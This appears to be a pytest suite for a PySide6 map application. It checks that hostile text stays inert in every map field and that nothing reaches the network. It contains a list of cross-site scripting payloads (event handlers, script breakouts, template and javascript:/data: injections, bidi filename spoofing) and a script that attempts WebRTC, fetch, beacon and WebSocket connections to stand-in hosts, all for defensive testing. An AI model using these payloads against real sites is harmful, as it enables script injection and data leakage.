"""Hostile text in every place where the map shows text, in the real engine: it stays text."""

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtWidgets import QApplication

from pocplanner.gui.map.view import MapView
from tests.gui.engine import as_root, run, showing, wait_for

#: What people put into names to break maps.
PAYLOADS = {
    "image": "<img src=x onerror=\"document.title='hit'\">",
    "drawing": "<svg onload=\"document.title='hit'\"><script>document.title='hit'</script></svg>",
    "end of script": "</script><script>document.title='hit'</script>",
    "template": "${document.title='hit'}",
    "back-tick": "`+(document.title='hit')+`",
    "escape": "\\u003cimg src=x onerror=document.title='hit'\\u003e",
    "hex escape": "\\x3cimg src=x onerror=document.title='hit'\\x3e",
    "address": "javascript:document.title='hit'",
    "curly": "{{constructor.constructor(\"document.title='hit'\")()}}",
    "data": "data:text/html,<script>parent.document.title='hit'</script>",
    "style": '"></span><style>*{background:url(http://127.0.0.1:9/x)}</style>',
    "textarea": '</textarea></title></style><iframe srcdoc="<script>top.x=1</script>">',
    "direction": "\u202egnp.exe\u202c \u2066\u200f\u061c x \u200b \ufeff",
    "long": "<b onmouseover=document.title='hit'>" + "Kérendi " * 130_000,
}
_CANARY = "Canary"


@pytest.fixture(scope="module")
def view(qapp: QApplication) -> Iterator[MapView]:
    """One map for all payloads."""
    with showing(_CANARY) as made:
        yield made


def _features(payload: str) -> list[tuple[str, dict[str, Any]]]:
    """A feature for each sink: the text that must be found again stands in it."""
    ring = [[0.0, 0.0], [0.0, 3.0], [3.0, 3.0]]
    point = {"type": "point", "lon": 0.0, "lat": 0.0, "colour": "#123456", "pick": True}
    shape = {"at": ring, "colour": "#123456", "pick": True}
    sign = {"letter": "P", "shape": "square"}
    return [
        ("tip of a dot", {**point, "id": "dot", "label": payload}),
        ("tip of a sign", {**point, **sign, "id": "sign", "label": payload}),
        ("tip of an area", {**shape, "id": "area", "type": "polygon", "label": payload}),
        ("tip of a line", {**shape, "id": "line", "type": "line", "label": payload}),
        ("letter of a sign", {**point, **sign, "id": "letter", "label": "", "letter": payload}),
        ("name of an id", {**point, **sign, "id": payload[:4000], "label": "id"}),
        ("name on the map", {**point, "id": "caption", "label": "", "caption": payload}),
        ("shape of a sign", {**point, "id": "shape", "label": "", "shape": payload[:4000]}),
        (
            "drawing of a sign",
            {**point, **sign, "id": "glyph", "label": "", "glyph": payload[:400]},
        ),
        ("colour", {**point, **sign, "id": "colour", "label": "", "colour": payload[:4000]}),
        ("hatching", {**shape, "id": "hatch", "type": "polygon", "hatch": payload[:400]}),
        ("record of a drawing", {**point, "id": "of", "of": payload[:4000], "label": ""}),
    ]


#: Points at everything that is drawn, one after another, and hands back what the tip said.
_OPEN_TIPS = (
    "const said = []; for (const layer of window.POC.layers.values())"
    " for (const f of [...layer.points.values(), ...layer.shapes.values()].map((x) => x.f)) {"
    " window.POC.showTip(f.label, {x: 50, y: 50});"
    " if (f.label) said.push(window.POC.tipped()); } window.POC.showTip(''); return said;"
)
#: What is drawn of a payload on the canvas: letters are cut at three signs, names at eighty.
_NAMED = "window.POC.acts.focus({west: -1, south: -1, east: 1, north: 1}); return 1;"


@pytest.mark.parametrize("name", PAYLOADS)
def test_hostile_text_stays_text_in_every_place(view: MapView, name: str) -> None:
    payload = PAYLOADS[name]
    said = len(view.page.said)
    layers = ["plain", payload[:4000]]
    places = _features(payload)
    for layer in layers:
        view.put(layer, [feature for _, feature in places])
        view.show_layer(layer, False)
        view.show_layer(layer, True)
        view.strength(layer, 0.5)
    view.order(layers)
    view.choose([payload[:4000], "dot", "area"])
    view.words({"zoom_in": payload[:4000], "signs": payload[:4000], payload[:400]: payload[:400]})
    run(view, _NAMED)
    count = "let n = 0; for (const l of window.POC.layers.values()) n += l.points.size"
    wanted = len(places) * len(layers)
    assert wait_for(lambda: run(view, f"{count} + l.shapes.size; return n;") >= wanted)
    tips = run(view, _OPEN_TIPS)
    assert tips.count(payload) == 4 * len(layers)
    assert set(tips) == {payload, "id"}
    assert wait_for(lambda: run(view, "return window.POC.named.length;"))
    assert set(run(view, "return window.POC.named;")) == {payload[:80]}
    assert wait_for(lambda: payload in run(view, _SPOKEN))
    assert set(run(view, _SPOKEN)) == {payload, "id"}
    zoom = "return document.querySelector('.leaflet-control-zoom-in').getAttribute('aria-label');"
    assert run(view, zoom) == payload[:4000]
    assert run(view, _STRANGERS) == []
    assert run(view, "return document.title;") == _CANARY
    # A drawing that there is not is asked for once, of our own scheme, and refused.
    heard = [line for line in view.page.said[said:] if "poc://app/sign/" not in line]
    assert heard == []
    for layer in layers:
        view.clear(layer)
    view.choose([])


_SPOKEN = "return [...document.querySelectorAll('.sign')].map((e) => e.getAttribute('aria-label'));"


#: Elements that text of a record could have made, and attributes that run code.
_STRANGERS = (
    "return [...document.querySelectorAll('img, svg script, iframe, style, textarea, b, object,"
    " embed, form, link:not([rel=stylesheet]), base, meta:not([charset])')].map((e) => e.outerHTML)"
    ".concat([...document.querySelectorAll('body *')].filter((e) => [...e.attributes].some((a) =>"
    " a.name.startsWith('on'))).map((e) => e.outerHTML));"
)


@pytest.mark.parametrize("name", [n for n in PAYLOADS if n != "long"])
def test_hostile_text_stays_text_in_the_title(qapp: QApplication, name: str) -> None:
    payload = PAYLOADS[name]
    with showing(payload) as view:
        shown = run(view, "return document.querySelector('title').textContent;")
        assert shown == payload
        spoken = run(view, "return document.querySelector('.folium-map').ariaLabel;")
        assert spoken == payload
        assert run(view, _STRANGERS) == []
        assert view.view.accessibleName() == payload


def test_text_cannot_leave_its_command(view: MapView) -> None:
    """Commands travel as JSON: signs that end lines or scripts elsewhere mean nothing in it."""
    odd = "\u2028\u2029\u0000\x1b[31m\"\\',]}\n\r\t</script>"
    view.put("odd", [{**_features(odd)[0][1]}])
    assert wait_for(lambda: odd in run(view, _OPEN_TIPS))
    view.clear("odd")


def test_thirty_megabytes_of_features_are_drawn(view: MapView) -> None:
    corners = [[i / 1000, (i * 7 % 1000) / 1000] for i in range(4_000)]
    features = [
        {
            "id": f"a{n}",
            "type": "polygon",
            "at": [[x + n % 20, y + n // 20] for x, y in corners],
            "colour": "#123456",
            "label": "Area " + "é" * 500,
        }
        for n in range(400)
    ]
    assert sum(len(json.dumps(f)) for f in features) > 30e6
    count = "return window.pocCount('areas');"
    before = run(view, count)
    view.put("areas", features)
    assert wait_for(lambda: run(view, count, 60) == before + 400, 60)
    view.clear("areas")
    assert wait_for(lambda: run(view, count, 60) == before, 60)


# --- nothing leaves the machine -----------------------------------------------------------------

_COUNTED = """
import os
from tests.gui.engine import run, settle, showing
from PySide6.QtWidgets import QApplication
from pathlib import Path

def packets():
    lines = Path("/proc/net/dev").read_text().splitlines()[2:]
    rows = {l.split(":")[0].strip(): l.split(":")[1].split() for l in lines}
    return sum(int(r[1]) + int(r[9]) for r in rows.values())

app = QApplication([])
before = packets()
with showing() as view:
    settle(1.0)
    quiet = packets()
    run(view, '''
        const f = document.createElement('iframe'); document.body.append(f);
        const made = f.contentWindow.RTCPeerConnection || window.RTCPeerConnection;
        window.tried = typeof made;
        if (made) {
            const p = new made({iceServers: [
                {urls: 'stun:10.9.9.2:3478'},
                {urls: 'turn:10.9.9.2:3478?transport=tcp', username: 'a', credential: 'b'},
                {urls: 'stun:stun.example.org'}]});
            p.createDataChannel('x');
            p.createOffer().then((o) => p.setLocalDescription(o));
            window.kept = p;
        }
        for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'prerender']) {
            const l = document.createElement('link');
            l.rel = rel; l.href = 'https://example.org/'; l.as = 'image'; document.head.append(l);
        }
        for (const a of ['http://10.9.9.2/', 'https://example.org/', 'ws://10.9.9.2/']) {
            fetch(a).catch(() => 0); new Image().src = a;
            try { navigator.sendBeacon(a, 'x'); } catch (e) {}
            f.contentWindow.fetch(a).catch(() => 0); new f.contentWindow.Image().src = a;
            try { new f.contentWindow.WebSocket('ws://10.9.9.2/'); } catch (e) {}
        }
        try { location = 'http://10.9.9.2/'; } catch (e) {}
        return 1;
    ''')
    settle(4.0)
    print("TRIED", run(view, "return window.tried;"))
print("PACKETS", before, quiet, packets())
"""


#: A day's work at the window: open, look at the map, draw, reshape, undo, print, close.
_WORKED = """
import tempfile
from pathlib import Path
from tests.gui.engine import run, settle, wait_for
from PySide6.QtWidgets import QApplication
from pocplanner.commands import drawing, mission
from pocplanner.gui.window import Window
from pocplanner.model.community import Community
from pocplanner.model.places import Area
from pocplanner.settings import Settings
from pocplanner.words import Words

def packets():
    lines = Path("/proc/net/dev").read_text().splitlines()[2:]
    rows = {l.split(":")[0].strip(): l.split(":")[1].split() for l in lines}
    return sum(int(r[1]) + int(r[9]) for r in rows.values())

app = QApplication([])
before = packets()
folder = Path(tempfile.mkdtemp())
mission.create(folder / "x.pocplan", "Oloria", None, "PoC adviser").close()
window = Window(Words("en"), Settings(show_help=False, show_tour=False))
window.show()
window.open_path(folder / "x.pocplan")
window.turn_to("map")
page = window.page("map")
assert wait_for(lambda: page.view is not None and page.view.is_up, 60)
page.tools.draw("Community")
page.view.drawn.emit("point", [(30.0, 10.0)])
page.tools.draw("Area")
page.view.drawn.emit("area", [(29.0, 9.0), (31.0, 9.0), (31.0, 11.0)])
project = window.desk.project
drawing.reshape(project, project.all(Area)[0].id, [[(29.0, 9.0), (31.0, 9.0), (30.0, 12.0)]])
window.undo()
settle(1.5)
drawn = run(page.view, "return window.pocCount('communities') + window.pocCount('areas');")
window.turn_to("report")
settle(0.5)
window.desk.leave()
window.close()
settle(0.5)
print("DRAWN", drawn)
print("PACKETS", before, packets())
"""


def _network(script: str) -> list[str]:
    """The command that runs a script where there is a network of its own that leads nowhere."""
    lay = (
        "ip link set lo up && ip link add v0 type veth peer name v1 && "
        "sysctl -qw net.ipv6.conf.all.disable_ipv6=1; "
        "ip addr add 10.9.9.1/24 dev v0 && ip link set v0 arp off && ip link set v0 up && "
        "ip link set v1 up && ip route add default via 10.9.9.2 dev v0 && "
        'exec "$0" -c "$1"'
    )
    return ["unshare", "-n", "sh", "-c", lay, sys.executable, script]


def _told_alone(script: str, repository: Path) -> dict[str, str]:
    """What a script says where there is no other network; skips aloud where none can be made."""
    if not (as_root() and shutil.which("unshare") and shutil.which("ip")):
        pytest.skip("a network of its own needs root, unshare and ip")
    told = subprocess.run(
        _network("print('LAID')"), capture_output=True, text=True, timeout=30, cwd=repository
    )
    if "LAID" not in told.stdout:
        pytest.skip("this machine does not allow a network of its own: " + told.stderr[-100:])
    told = subprocess.run(
        _network(script),
        capture_output=True,
        text=True,
        timeout=120,
        cwd=repository,
        env={**os.environ, "QT_QPA_PLATFORM": "offscreen", "PYTHONPATH": str(repository)},
    )
    lines = dict(line.split(" ", 1) for line in told.stdout.splitlines() if " " in line)
    assert "PACKETS" in lines, told.stderr[-2000:]
    return lines


def test_not_one_packet_leaves_while_the_page_tries(repository: Path) -> None:
    lines = _told_alone(_COUNTED, repository)
    before, quiet, after = (int(n) for n in lines["PACKETS"].split())
    assert lines["TRIED"] == "function", "the attack itself must be able to try"
    assert (quiet - before, after - before) == (0, 0)


def test_not_one_packet_leaves_while_somebody_works(repository: Path) -> None:
    lines = _told_alone(_WORKED, repository)
    before, after = (int(n) for n in lines["PACKETS"].split())
    assert int(lines["DRAWN"]) >= 2, "the map must have been there to send anything"
    assert after - before == 0
